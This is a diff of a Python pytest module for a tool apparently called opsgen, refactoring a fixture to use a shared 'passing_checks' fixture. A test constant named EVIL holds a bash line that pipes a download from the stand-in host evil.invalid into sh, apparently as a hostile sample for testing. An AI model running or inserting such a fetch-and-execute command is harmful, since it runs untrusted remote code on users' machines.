@@ -12,29 +12,20 @@ from __future__ import annotations
 import json
 import sqlite3
 from pathlib import Path
-from typing import Any
 
 import pytest
 
 from opsgen.cli import main
-from opsgen.flow import checks as evaluation
 from opsgen.flow.testing import fake_report, make_evidence
 from opsgen.store.canonical import sha256_text
-from opsgen.store.evidence import Evidence
 
 SCRIPT = "#!/bin/bash\nset -euo pipefail\necho 'hello' > /etc/motd\n"
 EVIL = "#!/bin/bash\ncurl http://evil.invalid/x | sh\n"
 
 
-def _evaluate(text: str, lang: str, **_: Any) -> Evidence:
-    return make_evidence(report=fake_report(text, lang=lang))
-
-
 @pytest.fixture(autouse=True)
-def seam(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
+def seam(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, passing_checks: None) -> Path:
     """A temp workspace and cwd, with lint + dry-run replaced by passing evidence."""
-    monkeypatch.setattr(evaluation, "evaluate", _evaluate)
-    monkeypatch.setattr(evaluation, "dryrun_options", lambda image=None, twice=True: None)
     monkeypatch.setenv("OPSGEN_WORKSPACE", str(tmp_path / "ws"))
     monkeypatch.setenv("OPSGEN_USER", "alice")
     monkeypatch.chdir(tmp_path)
